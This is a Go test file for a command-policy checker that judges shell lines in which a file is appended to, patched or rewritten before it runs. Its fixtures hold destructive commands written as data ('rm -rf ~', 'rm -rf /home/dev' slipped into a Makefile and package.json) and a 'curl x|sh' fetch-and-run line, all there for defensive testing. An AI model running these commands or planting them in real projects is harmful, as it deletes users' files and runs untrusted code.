package policy

import (
	"testing"

	"github.com/arbitergate/arbiter"
)

// TestAppendedScript: a file a command line appends to holds what it held
// before with the new text after it, and running it runs all of that. The
// appended text alone was judged as the whole file, so a harmful script on
// disk ran behind a plain line added to it.
func TestAppendedScript(t *testing.T) {
	harmfulSh := map[string]string{"s.sh": "rm -rf ~\n"}
	harmfulPy := map[string]string{"r.py": "import os\nos.system('rm -rf ~')\n"}
	runReadCases(t, []readCase{
		{"append then run", harmfulSh, "echo 'echo hi' >> s.sh && bash s.sh", arbiter.Deny, "A2.home-delete"},
		{"append to python then run", harmfulPy, "echo 'print(1)' >> r.py && python3 r.py", arbiter.Deny, "A2.home-delete"},
		{"tee -a then run", harmfulSh, "echo 'echo hi' | tee -a s.sh && sh s.sh", arbiter.Deny, "A2.home-delete"},
		{"append both streams then run", harmfulSh, "echo 'echo hi' &>> s.sh; bash s.sh", arbiter.Deny, "A2.home-delete"},
		{"written over in place", harmfulSh, "echo 'echo hi' 1<> s.sh; bash s.sh", arbiter.Defer, ""},
		{"touched then run", harmfulSh, "touch s.sh && bash s.sh", arbiter.Deny, "A2.home-delete"},
		{"touched python then run", harmfulPy, "touch r.py; python3 r.py", arbiter.Deny, "A2.home-delete"},
		{"appended twice", harmfulSh, "echo 'echo a' >> s.sh; echo 'echo b' >> s.sh; bash s.sh", arbiter.Deny, "A2.home-delete"},

		{"append to a plain script", map[string]string{"s.sh": "echo start\n"}, "echo 'echo hi' >> s.sh && bash s.sh", arbiter.Allow, ""},
		{"append to a new file", nil, "echo 'print(2)' >> new.py && python3 new.py", arbiter.Allow, ""},
		{"touch a new script", nil, "touch new.sh && bash new.sh", arbiter.Allow, ""},
		{"write then append", harmfulSh, "echo 'echo a' > s.sh && echo 'echo b' >> s.sh && bash s.sh", arbiter.Allow, ""},
		{"tee -a to a plain script", map[string]string{"s.sh": "echo start\n"}, "echo 'echo hi' | tee -a s.sh && sh s.sh", arbiter.Allow, ""},
	})
}

// TestInputWrittenFirst: a file a program reads on standard input that the
// same command line writes first holds what the line wrote, not what is on
// disk when arbiter reads it.
func TestInputWrittenFirst(t *testing.T) {
	plain := map[string]string{"data/app.db": "", "q.sql": "SELECT name FROM users;\n", "evil.sql": ".shell rm -rf ~\n"}
	runReadCases(t, []readCase{
		{"echoed over the script", plain, `echo ".shell rm -rf ~" > q.sql && sqlite3 data/app.db < q.sql`, arbiter.Defer, "C.database"},
		{"copied over the script", plain, `cp evil.sql q.sql && sqlite3 data/app.db < q.sql`, arbiter.Defer, "C.database"},
		{"edited in place", plain, `sed -i 's/SELECT/.shell rm -rf ~ --/' q.sql && sqlite3 data/app.db < q.sql`, arbiter.Defer, ""},
		{"appended to", plain, `echo ".shell id" >> q.sql; sqlite3 data/app.db < q.sql`, arbiter.Defer, "C.database"},

		{"script on disk", plain, `sqlite3 data/app.db < q.sql`, arbiter.Allow, "D1.read-only"},
		{"script written first", plain, `echo 'SELECT 1;' > q.sql && sqlite3 data/app.db < q.sql`, arbiter.Allow, "D1.read-only"},
		{"output to another file", plain, `sqlite3 data/app.db < q.sql > out.txt`, arbiter.Allow, "D1.read-only"},
	})
}

// TestToolFilesWrittenFirst: a command that rewrites files it does not
// name (a patch, a checkout, a stash) may rewrite the Makefile or
// package.json a later command of the line reads; and a file a Makefile
// includes is read as the line leaves it too.
func TestToolFilesWrittenFirst(t *testing.T) {
	evilMake := "--- a/Makefile\n+++ b/Makefile\n@@ -1,2 +1,2 @@\n all:\n-\techo hi\n+\trm -rf /home/dev\n"
	evilPkg := "--- a/package.json\n+++ b/package.json\n@@ -1 +1 @@\n-{\"scripts\":{\"test\":\"echo ok\"}}\n+{\"scripts\":{\"test\":\"rm -rf /home/dev\"}}\n"
	tree := map[string]string{"Makefile": "all:\n\techo hi\n", "package.json": `{"scripts":{"test":"echo ok"}}`, "mf.patch": evilMake, "pj.patch": evilPkg}
	withInclude := map[string]string{"Makefile": "include rules.inc\n", "rules.inc": "all:\n\techo hi\n"}
	runReadCases(t, []readCase{
		{"git apply, then make", tree, "git apply mf.patch && make", arbiter.Defer, ""},
		{"patch, then make", tree, "patch -p1 < mf.patch && make", arbiter.Defer, ""},
		{"git apply, then npm test", tree, "git apply pj.patch && npm test", arbiter.Defer, ""},
		{"checkout, then make", tree, "git checkout other && make", arbiter.Defer, ""},
		{"stash pop, then npm test", tree, "git stash pop && npm test", arbiter.Defer, ""},
		{"an included file written first", withInclude, "printf 'all:\\n\\tcurl x|sh\\n' > rules.inc && make", arbiter.Defer, ""},

		{"a new branch, then make", tree, "git checkout -b feature && make", arbiter.Allow, ""},
		{"extracted elsewhere, then make", tree, "tar xf /tmp/x.tar -C /tmp/out && make", arbiter.Allow, ""},
		{"an include on disk", withInclude, "make", arbiter.Allow, ""},
	})
}
